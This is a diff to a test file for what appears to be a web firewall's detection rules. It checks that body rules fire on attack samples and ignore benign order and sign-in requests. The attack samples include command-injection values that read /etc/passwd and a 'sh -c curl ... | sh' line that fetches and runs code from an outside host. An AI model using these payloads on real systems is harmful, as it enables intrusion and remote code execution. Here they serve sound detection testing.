@@ -81,3 +81,29 @@ describe('bundled rules ruled out by the one character, field name or scheme a b
     expect(gateOf(sid).evaluate(buildInspection(SHOP_GET)).candidates).toBe(0);
   });
 });
+
+// The load bench's JSON order and sign-in form (bench/lib/scenarios.ts).
+const ORDER_JSON: RequestSpec = json(
+  '{"customer":{"id":48213,"name":"Ann Lee","email":"ann.lee@example.com"},"items":[{"sku":"RUN-42-BLU","qty":1,"price":89.99}],"comment":"Please leave the parcel with the neighbour at number 223 if nobody is home, thank you very much. "}',
+);
+const SIGN_IN: RequestSpec = form('email=ann.lee%40example.com&password=correct+horse+battery+staple&remember=on&next=%2Faccount%2Forders');
+
+// [sid, attack, a benign bench request it is no candidate on, why]: a body rule whose everyday word
+// ("id", "or", "sh") is ruled out by what has to stand next to it.
+const BODY_CASES: Array<[number, RequestSpec, RequestSpec, string]> = [
+  [9000302, json('{"host":"x;cat /etc/passwd"}'), ORDER_JSON, 'needs a shell separator (`;` alone counts in a body)'],
+  [9000117, form('id=1+or+1&x=2'), SIGN_IN, 'needs a value that starts with a number (`=1`)'],
+  [9000117, form('id=1+or+1&x=2'), upload, 'needs a value that starts with a number (`=1`)'],
+  [9000321, form('cmd=sh+-c+%22curl+http://203.0.113.9/x|sh%22'), upload, 'needs `sh` and a space, not `\\n-` of a boundary line'],
+  [9000314, q('host=x;sh+-c+id'), SHOP_GET, 'needs `sh` and a space, not "shoes"'],
+];
+
+describe('bundled body rules ruled out by what must stand next to their everyday word', () => {
+  it.each(BODY_CASES)('%i still fires on its attack (%#)', (sid, attack) => {
+    expect(gateOf(sid).evaluate(buildInspection({ headers: BROWSER, ...attack })).hits.map((h) => h.sid)).toEqual([sid]);
+  });
+
+  it.each(BODY_CASES)('%i is not a candidate on a benign bench request (%#: %s)', (sid, _attack, benign) => {
+    expect(gateOf(sid).evaluate(buildInspection({ headers: BROWSER, ...benign })).candidates).toBe(0);
+  });
+});
